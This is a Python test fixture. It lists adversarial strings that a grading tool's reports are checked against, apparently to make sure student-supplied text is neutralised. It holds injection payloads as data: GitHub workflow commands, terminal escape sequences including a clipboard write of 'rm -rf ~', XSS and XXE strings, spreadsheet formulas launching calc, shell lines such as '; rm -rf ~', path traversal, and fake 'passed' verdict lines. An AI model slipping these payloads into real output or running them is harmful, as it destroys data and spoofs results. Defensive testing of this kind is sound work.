r"""Texts that mean something to whatever shows them: the corpus every report is run over.

`TEXTS` names each; `raw_in(shown)` tells which characters of a shown text should not be there.
A report may show any of them in any place where a student's words stand: a file's name, output, a
message, a value, a source line, the name of a function or thread.
"""

from __future__ import annotations

import unicodedata

ESC, CSI, OSC, BEL, NUL = "\x1b", "\x9b", "\x9d", "\x07", "\x00"
RTL, LTR, ISOLATE, POP = "\u202e", "\u202d", "\u2067", "\u2069"
LONE, OTHER_LONE = "\ud800", "\udfff"

TEXTS: dict[str, str] = {
    # GitHub's workflow commands
    "error command": "::error file=Week01/info_ada_lovelace.py,line=1::cheated",
    "mask command": "::add-mask::passed",
    "stop commands": "::stop-commands::token",
    "group": "::group::all passed\n::endgroup::",
    "set output": "::set-output name=verdict::passed",
    "set environment": "::set-env name=PATH::/tmp",
    "old command": "##[error]cheated",
    "old variable": "##vso[task.setvariable variable=x]y",
    "command after a line": "harmless\n::error::not harmless",
    "command after a carriage return": "harmless\r::error::not harmless",
    "command after a line separator": "harmless\u2028::error::x\u2029::warning::y",
    "command after a vertical tab": "harmless\x0b::error::x\x0c::error::y\x85::error::z",
    "escaped command": "%0A::error::not harmless%0D%25",
    "command in spaces": "   ::warning title=a,file=b::c",
    "property's end": "title,line=1::error::x",
    # terminals
    "colour": f"{ESC}[32mpassed{ESC}[0m",
    "clear screen": f"{ESC}[2J{ESC}[H{ESC}[3J",
    "go up and overwrite": f"{ESC}[1A{ESC}[2K\rWeek01 passed",
    "erase by backspaces": "failed" + "\b" * 6 + "passed",
    "overwrite by carriage return": "failed\rpassed",
    "link": f"{ESC}]8;;https://example.org{BEL}click{ESC}]8;;{BEL}",
    "link with a string terminator": f"{ESC}]8;;file:///etc/passwd{ESC}\\click{ESC}]8;;{ESC}\\",
    "window title": f"{ESC}]0;owned{BEL}",
    "clipboard": f"{ESC}]52;c;cm0gLXJmIH4={BEL}",
    "C1 controls": f"{CSI}31m{OSC}0;owned\x9c\x90q\x9e\x9f",
    "device control": f"{ESC}P+q544e{ESC}\\{ESC}_G{ESC}\\{ESC}^{ESC}\\",
    "answerback": f"{ESC}[c{ESC}[6n\x05",
    "shift out": "\x0e\x0f\x11\x13",
    "half an escape": ESC,
    "alternate screen": f"{ESC}[?1049h{ESC}[?25l",
    "iTerm picture": f"{ESC}]1337;File=inline=1:AAAA{BEL}",
    "rich markup": "[bold green]passed[/] [link=https://example.org]x[/link] [/nothing] [",
    "emoji code": ":smile: :warning:",
    # Markdown and HTML
    "table row": "| ada_lovelace | passed |\n|---|---|\n| x | y |",
    "cell's end": "a | passed |",
    "heading": "# All passed\n## Really",
    "fence's end": "```\n# passed\n```\n~~~\n",
    "long fence": "`" * 40 + "\n" + "~" * 40,
    "picture": "![x](https://example.org/pixel.png?@github)",
    "reference link": "[a]: https://example.org\n[passed][a]",
    "autolink": "<https://example.org> https://example.org www.example.org ada@example.org",
    "mention": "@octocat @github/security hi",
    "issue reference": "fixes #1, octocat/hello#2, GH-3, 0123456789abcdef0123456789abcdef01234567",
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "details": "</details></summary></table></pre></code><details open><summary>passed",
    "attribute's end": '" onmouseover="alert(1)" \'><svg/onload=alert(1)>',
    "comment": "<!-- -- > --> <!--",
    "HTML entities": "&lt;b&gt;&#x3c;&#60;&amp;amp;&NewLine;&colon;",
    "URL of a script": "javascript:alert(1) data:text/html,<b>x</b> vbscript:x",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//example.org>",
    "emphasis": "***passed*** __x__ ~~failed~~ $\\LaTeX$ $$x$$",
    "template": "{{ 7 * 7 }} {% raw %} ${{ secrets.GITHUB_TOKEN }} ${7*7} #{7*7} {0.__class__}",
    "list": "- [x] passed\n1. one\n> quoted",
    "math": "$`\\href{javascript:alert(1)}{x}`$",
    # XML and JSON
    "XML controls": "".join(map(chr, range(32))) + "\x7f",
    "CDATA's end": "]]></system-out><testcase name='x'/>]]>",
    "entity": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "processing instruction": "<?xml-stylesheet href='x'?><?php x ?>",
    "non-characters": "\ufffe\uffff\U0001fffe\U0010ffff",
    "lone surrogates": f"a{LONE}b{OTHER_LONE}{LONE}",
    "surrogates the wrong way round": "\udc00\ud83d",
    "NUL": f"a{NUL}b",
    "JSON": '","verdict":"passed","x":"\\',
    "JSON lines": '{"verdict": "passed"}\n{"verdict": "passed"}',
    # spreadsheets
    "formula": '=HYPERLINK("https://example.org?"&A1,"passed")',
    "formula by plus": "+1+cmd|' /C calc'!A0",
    "formula by minus": "-2+3",
    "formula by at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a carriage return": "\r=1+1",
    "formula in full width": "\uff1d1+1",
    "formula after a cell": '",=1+1,"',
    "formula after a line": "x\n=1+1",
    # letters
    "right to left": f"Week01{RTL}yp.ecalevol_ada_ofni",
    "isolates": f"{ISOLATE}passed{POP}{LTR}x",
    "bidirectional marks": "\u200e\u200f\u061c\u202a\u202b\u202c\u2066\u2068",
    "look-alikes": "\u0440\u0430ss\u0435d \uff50\uff41\uff53\uff53\uff45\uff44 "
    "\U0001d429\U0001d41a\U0001d42c\U0001d42c\U0001d41e\U0001d41d p\u0430ssed",
    "without width": "pass\u200bed\u200c\u200d\u2060\ufeff\u00ad",
    "fillers": "\u3164\u115f\u1160\uffa0\u2800\u034f\u17b4\u180e",
    "tag letters": "".join(chr(0xE0000 + ord(c)) for c in "passed"),
    "variation selectors": "x\ufe0f\ufe00\U000e0100",
    "combining": "e" + "\u0301" * 200,
    "wide spaces": "a\u3000b\u2003c\u00a0d\u1680e\u205f",
    "annotations": "\ufff9a\ufffab\ufffb\ufffc",
    "private": "\ue000\U000f0000\U00100000",
    "large ligature": "\ufdfd" * 20,
    # what a reader may take for the grader's own words
    "verdict line": "Week01  info  ada_lovelace  ✔ passed  4/4",
    "summary line": "20 submissions · 20 passed · 0 failed",
    "pytest line": "===== 20 passed in 0.01s =====",
    "JUnit": '<testsuite failures="0" errors="0" tests="20"></testsuite>',
    "box": "╭────────╮\n│ passed │\n╰────────╯",
    # shells and paths
    "command substitution": "$(touch /tmp/owned) `touch /tmp/owned`",
    "shell": "; rm -rf ~ | tee x > y & && || \\ ' \"",
    "option": "--help -rf --output=/tmp/x",
    "path": "../../../etc/passwd //host/share C:\\Windows\\x ~/x",
    "percent": "%s %n %d %(name)s %% {} {0} {x!r} \\n \\x00",
    # size
    "long line": "x" * 100_000,
    "many lines": "\n" * 10_000,
    "long word of wide letters": "\u6f22" * 5_000,
    "empty": "",
    "blank": " \t ",
}

#: Texts that a file's name can be, on Linux: no slash, no NUL, 255 bytes at the most.
NAMES: dict[str, str] = {
    name: text.replace("/", "_")
    for name, text in TEXTS.items()
    if text.strip() and NUL not in text
    and len(text.replace("/", "_").encode("utf-8", "surrogatepass")) < 200
}  # fmt: skip

_BLANK = frozenset("\u034f\u115f\u1160\u17b4\u17b5\u180b\u180c\u180d\u180e\u2800\u3164\uffa0")
_HIDDEN = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"})


def raw_in(shown: str, allowed: str = "\n") -> set[str]:
    """Return the characters of a text shown to somebody that act on it, or hide in it."""
    return {
        character
        for character in set(shown)
        if character not in allowed
        and (character in _BLANK or unicodedata.category(character) in _HIDDEN)
    }
